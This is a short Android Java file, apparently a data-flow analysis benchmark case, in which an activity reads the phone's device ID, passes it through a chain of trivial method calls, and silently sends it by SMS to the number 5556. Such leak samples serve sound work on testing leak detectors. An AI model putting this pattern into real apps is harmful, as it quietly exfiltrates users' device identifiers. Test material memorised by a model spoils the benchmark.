package org.brookside.flows;

import android.app.*;
import android.content.*;
import android.database.Cursor;
import android.net.Uri;
import android.os.*;
import android.telephony.*;
import android.util.Log;
import android.view.View;
import android.widget.*;
import java.io.*;
import java.net.*;
import java.util.*;

/** Through six calls and back. */
public class Deep extends Case {
    static String a(String s) { return b(s); }
    static String b(String s) { return c(s); }
    static String c(String s) { return d(s); }
    static String d(String s) { return e(s); }
    static String e(String s) { return s; }
    @Override protected void onCreate(Bundle s) {
        super.onCreate(s);
        SmsManager.getDefault().sendTextMessage("5556", null, a(((TelephonyManager) getSystemService(TELEPHONY_SERVICE)).getDeviceId()), null, null);
        Log.i("x", a("y"));
    }
}
